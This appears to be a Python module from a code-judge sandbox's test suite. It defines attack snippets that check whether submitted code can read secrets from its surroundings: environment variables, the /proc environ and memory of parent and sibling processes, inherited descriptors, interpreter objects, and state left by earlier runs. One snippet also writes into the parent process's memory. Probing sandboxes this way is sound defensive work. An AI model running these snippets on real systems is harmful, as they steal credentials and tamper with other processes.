"""Attacks on secrets: environments, memory, inherited objects, what an earlier run left."""

from __future__ import annotations

from code_judge.attack import checks as held
from code_judge.attack.model import Attack

_ALLOWED = (
    "PATH HOME TMPDIR LANG LC_CTYPE PYTHONHASHSEED PYTHONDONTWRITEBYTECODE "
    "OMP_NUM_THREADS OPENBLAS_NUM_THREADS MKL_NUM_THREADS"
)
_ENVIRONMENT = f"""
allowed = set("{_ALLOWED}".split())
secrets_in(json.dumps(dict(os.environ)).encode())
for name in set(os.environ) - allowed:
    claim(f"environment variable {{name}}")
def initial(path):
    data = open(path, "rb").read()
    secrets_in(data)
    for word in data.split(b"\\0"):
        name = word.partition(b"=")[0].decode()
        if name and name not in allowed:
            claim(f"environment variable {{name}} in {{path}}")
attempt(initial, "/proc/self/environ")
"""
_PROC = """
def pids():
    known = [os.getppid(), 1, facts["victim"], facts["supervisor"], *facts["siblings"]]
    own = {os.getpid()}
    return [pid for pid in dict.fromkeys([*known, *range(1, 400)]) if pid not in own]
def of(pid, name, size=1 << 16):
    with open(f"/proc/{pid}/{name}", "rb") as file:
        return file.read(size)
"""
_OTHERS_ENVIRON = (
    _PROC
    + """
for pid in PIDS:
    for name in ("environ", "auxv", "maps", "syscall"):
        data = attempt(of, pid, name)
        if data:
            secrets_in(data)
            claim(f"{len(data)} bytes of {name} of process {pid}")
"""
)
_MEMORY = (
    _PROC
    + """
def regions(pid):
    for line in of(pid, "maps", 1 << 20).decode().splitlines():
        span, mode, *_ = line.split()
        start, end = (int(word, 16) for word in span.split("-"))
        if "r" in mode and "w" in mode and end - start < 1 << 28:
            yield start, end
def search(pid):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, end in regions(pid):
            def look():
                memory.seek(start)
                secrets_in(memory.read(end - start))
            attempt(look)
"""
)
_READ_MEMORY = (
    _MEMORY
    + """
for pid in PIDS:
    attempt(search, pid)
    target = ctypes.create_string_buffer(64)
    iov = (ctypes.c_size_t * 2)(ctypes.addressof(target), 64)
    other = (ctypes.c_size_t * 2)(id(sys.argv[0]), 64)
    if call(310 if X86 else 270, pid, iov, 1, other, 1, 0) > 0:
        claim(f"memory of process {pid}")
    fd = attempt(os.pidfd_open, pid)
    for number in range(0, 12):
        if fd is not None and call(438, fd, number, 0) >= 0:
            claim(f"descriptor {number} of process {pid}")
"""
)
# The parent's sys.argv is at the same place as ours: what is written there meets the next run.
_WRITE_PARENT = """
word = sys.argv[0]
where = bytes(ctypes.string_at(id(word), 256)).index(word.encode()) + id(word)
def write():
    with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
        memory.seek(where)
        memory.write(b"x" * len(word))
attempt(write)
text = ctypes.create_string_buffer(b"x" * len(word))
iov = (ctypes.c_size_t * 2)(ctypes.addressof(text), len(word))
other = (ctypes.c_size_t * 2)(where, len(word))
call(311 if X86 else 271, os.getppid(), iov, 1, other, 1, 0)
"""
_EARLIER = "\nearlier = '@EARLIER@'\nopen('left.txt', 'w').write(earlier)\nos.environ['LEFT'] = earlier\n"
_OBJECTS = """
import gc
seen, todo = set(), [sys.modules, gc.get_objects()]
frame = sys._getframe()
while frame is not None:
    todo += [frame.f_globals, frame.f_locals, frame.f_builtins]
    frame = frame.f_back
while todo and len(seen) < 300000:
    one = todo.pop()
    if id(one) in seen:
        continue
    seen.add(id(one))
    if isinstance(one, str):
        secrets_in(one.encode("utf-8", "replace"))
    elif isinstance(one, (bytes, bytearray)):
        secrets_in(bytes(one))
    elif gc.is_tracked(one):
        todo += gc.get_referents(one)
"""
_OWN_MEMORY = (
    _MEMORY
    + "\nattempt(search, 'self')\nfor fd in range(3, 256):\n    attempt(lambda: secrets_in(os.pread(fd, 1 << 16, 0)))\n"
)
_GLOBALS = """
import __main__, gc
for name in ("config", "control", "request", "answer", "_zygote", "loop", "slot", "settings", "EARLIER"):
    if hasattr(__main__, name):
        claim(f"__main__.{name}")
if sys.argv != ["main.py"]:
    claim(f"sys.argv {sys.argv}")
secrets_in(repr(sys.orig_argv).encode() if hasattr(sys, "orig_argv") else b"")
# Something that was left in a shared object of the interpreter would meet the next run.
sys.modules["left"] = __main__
vars(__builtins__ if not isinstance(__builtins__, dict) else sys)["left"] = 1
frame = sys._getframe()
while frame is not None:
    attempt(frame.f_globals.__setitem__, "left", facts["mark"])
    frame = frame.f_back
"""
_GLOBALS_AGAIN = """
import builtins
def look(names):
    if "left" in names:
        claim("a global of an earlier run")
frame = sys._getframe()
while frame is not None:
    look(frame.f_globals)
    frame = frame.f_back
look(sys.modules)
look(vars(builtins))
if "LEFT" in os.environ or os.path.exists("left.txt"):
    claim("environment or file of an earlier run")
"""

_JUDGE = "[facts['supervisor'], facts['victim'], *facts['siblings']]"


def _aimed(text: str, pids: str) -> str:
    return text.replace("PIDS", pids)


ATTACKS = [
    Attack("A17", "secrets in the environment", (_ENVIRONMENT + _aimed(_OTHERS_ENVIRON, _JUDGE),)),
    Attack("A20", "expected output in the worker's memory", (_aimed(_READ_MEMORY, _JUDGE),)),
    Attack("B2", "secrets in the own environment", (_ENVIRONMENT,)),
    Attack("B3", "the parent's environment", (_aimed(_OTHERS_ENVIRON, "[os.getppid()]"),)),
    Attack("B4", "the environment of process 1 and all others", (_aimed(_OTHERS_ENVIRON, "pids()"),)),
    Attack(
        "B5", "read and write the parent's memory", (_aimed(_READ_MEMORY, "[os.getppid()]") + _WRITE_PARENT,)
    ),
    Attack("B27", "search all inherited objects and memory", (_EARLIER, _OBJECTS + _OWN_MEMORY)),
    Attack(
        "C10", "globals of the slot's interpreter", (_EARLIER + _GLOBALS, _GLOBALS_AGAIN), (held.mark_unknown,)
    ),
]  # fmt: skip
